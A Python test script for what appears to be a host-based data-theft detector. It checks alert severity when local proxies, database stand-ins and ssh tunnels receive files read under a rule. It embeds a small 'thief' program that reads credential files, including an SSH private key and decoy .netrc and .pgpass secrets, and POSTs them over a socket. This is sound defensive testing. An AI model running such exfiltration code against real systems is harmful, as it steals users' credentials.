#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Connections within this host under the default policy: what a program sends that a rule lets read the file marks no
server: a database, a proxy, a forwarded port. Beside each is a thief who sends the same file there: the alert of the
thief keeps its severity; that of a server of the same user is a weaker one, and its other clients raise none."""

import contextlib
import os
import subprocess
import sys
from types import SimpleNamespace

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import scene as stage
from scene import URL
from sshd import Server

import harness
import tap
from net import HOST_V4
from tap import require, require_equal

PROXY, FORWARDED, DATABASE = 3128, 8081, 5432
PYTHON = "/usr/bin/python3"
OWN = "/usr/local/sbin/own"

# Relays what it gets to another host: a proxy, as far as these clients need one.
RELAY = f"""
import socket, threading
server = socket.create_server(("127.0.0.1", {PROXY}))
print("ready", flush=True)
def relay(client):
    request = client.recv(65536)
    with client, socket.create_connection(("{HOST_V4}", 80)) as to:
        to.sendall(request.replace(b"http://{HOST_V4}", b"", 1))
        while piece := to.recv(65536):
            client.sendall(piece)
while True:
    threading.Thread(target=relay, args=(server.accept()[0],), daemon=True).start()
"""
# As much of a database as psql needs, see postgresql.py.
SERVER = """
import os, socketserver, sys
sys.path.insert(0, sys.argv[1])
import postgresql
server = socketserver.ThreadingTCPServer(("127.0.0.1", %d), postgresql.PostgreSQL)
print("ready", flush=True)
server.serve_forever()
"""
THIEF = """
import socket, sys
secret = open(sys.argv[1], "rb").read()
with socket.create_connection(("127.0.0.1", int(sys.argv[2]))) as to:
    to.sendall(b"POST / HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(secret) + secret)
    to.recv(65536)
"""


@contextlib.contextmanager
def serving(s, user, command):
    process = s.net.popen(s.world.command(user, command), stdout=subprocess.PIPE, text=True)
    try:
        require_equal(process.stdout.readline(), "ready\n", f"{command[0]} as {user}")
        yield process
    finally:
        process.terminate()
        process.wait()
        process.stdout.close()


def fetch(s, user, *options):
    out = s.silent(["curl", "-sS", *options, URL], user)
    require("hello" in out, f"curl said {out!r}")


def stolen(s, user, path, port):
    """The alerts of a thief and of a program of this name that listens on this port."""
    before = s.alerts_so_far()
    result = s.run([PYTHON, "-c", THIEF, path, str(port)], user, needs="/usr/bin/env")
    require_equal(result.returncode, 0, f"the theft of {path}\n{result.stderr}")
    alert = s.bw.wait(lambda: next((a for a in s.bw.alerts[before:] if harness.touches(a, path.encode()) and
                                    a["destination"]["address"] == "127.0.0.1"), None), harness.ALERT_TIMEOUT,
                      f"the theft of {path} by port {port}")
    require(alert["severity"] != "low", f"the thief's alert: {alert['reasons']}")
    s.bw.prove_delivered(s.net, s.home)
    return [a for a in s.alerts_since(before) if a["process"]["pid"] != alert["process"]["pid"]]


def database(s):
    s.world.write("ana", ".pgpass", "*:*:*:ana:decoy\n")
    with serving(s, "ana", [PYTHON, "-c", SERVER % DATABASE, os.path.dirname(os.path.abspath(__file__))]):
        for _ in range(2):
            out = s.silent(["psql", "-h", "127.0.0.1", "-U", "ana", "-tAc", "select 6 * 7", "ana"], "ana")
            require(out == "42\n", f"psql said {out!r}")
        fetch(s, "ana")


def proxy(s):
    key = s.world.write("ana", ".ssh/id_other", "decoy, not a key\n")
    s.world.write("ana", ".netrc", f"machine {HOST_V4} login ana password decoy-not-a-password\n")
    with serving(s, "ana", [PYTHON, "-c", RELAY]) as relay:
        fetch(s, "ana", "-n", "-x", f"http://127.0.0.1:{PROXY}")
        fetch(s, "ana", "-x", f"http://127.0.0.1:{PROXY}")
        alerts = stolen(s, "ana", key, PROXY)
        require_equal([(a["process"]["pid"], a["destination"]["address"], a["severity"]) for a in alerts],
                      [(relay.pid, HOST_V4, "low")], f"the proxy's alert {[a['reasons'] for a in alerts]}")
        # Its other clients get their answers from a process that is marked now.
        fetch(s, "ana", "-x", f"http://127.0.0.1:{PROXY}")


def service(s):
    """A program of root's that runs as a user of its own: all talk to it, and it is no thief. That of another user
    is marked, whom the thief hands it to."""
    key = s.world.write("ana", ".ssh/id_other", "decoy, not a key\n")
    s.world.do("install", "-d", s.world.home_of("daemon"))
    s.world.do("install", "-D", "-o", "daemon", PYTHON, OWN)
    for program, marked in (PYTHON, False), (OWN, True):
        with serving(s, "daemon", [program, "-c", RELAY]) as relay:
            alerts = stolen(s, "ana", key, PROXY)
            require_equal([a["process"]["pid"] for a in alerts], [relay.pid] * marked, f"{program}: {alerts}")
            fetch(s, "ana", "-x", f"http://127.0.0.1:{PROXY}")


def earlier():
    """The same service, of which nothing was judged: it was there before barbwired."""
    def before(net, world):
        world.do("install", "-d", world.home_of("daemon"))
        return serving(SimpleNamespace(net=net, world=world), "daemon", [PYTHON, "-c", RELAY])

    with stage.scene(before=before) as s:
        alerts = stolen(s, "ana", s.world.write("ana", ".ssh/id_other", "decoy, not a key\n"), PROXY)
        require(not alerts, f"{alerts}")


def forwarded(s, server):
    options = server.options("ana")
    tunnel = ["ssh", "-N", *options, "-L", f"127.0.0.1:{FORWARDED}:{HOST_V4}:80", "-o", "PermitLocalCommand=yes",
              "-o", "LocalCommand=echo ready", f"ana@{HOST_V4}"]
    with s.silence():
        s.run(["ssh", *options, f"ana@{HOST_V4}", "true"], "ana")
    with serving(s, "ana", tunnel) as ssh:
        out = s.silent(["curl", "-sS", f"http://127.0.0.1:{FORWARDED}/"], "ana")
        require("hello" in out, f"curl said {out!r}")
        alerts = stolen(s, "ana", f"{s.world.home_of('ana')}/.ssh/id_ed25519", FORWARDED)
        require_equal({a["process"]["pid"] for a in alerts}, {ssh.pid}, "whose alerts")
        # That it has the same file by its rule, too, tells its answers from those of other servers.
        require(HOST_V4 in [a["destination"]["address"] for a in alerts], f"the alert of ssh: {alerts}")


def main():
    t = tap.Tap()
    with stage.scene() as s:
        t.case("psql and a database of the same user", database, s)
        t.case("curl and a proxy of the same user; a thief, and then others", proxy, s)
        t.case("a service of another user, and a thief", service, s)
        with Server(s) as server:
            t.case("ssh -L, and a thief", forwarded, s, server)
        t.case("no loss", stage.no_loss, s.bw)
    t.case("a service that was there before, and a thief", earlier)
    t.done()


if __name__ == "__main__":
    main()
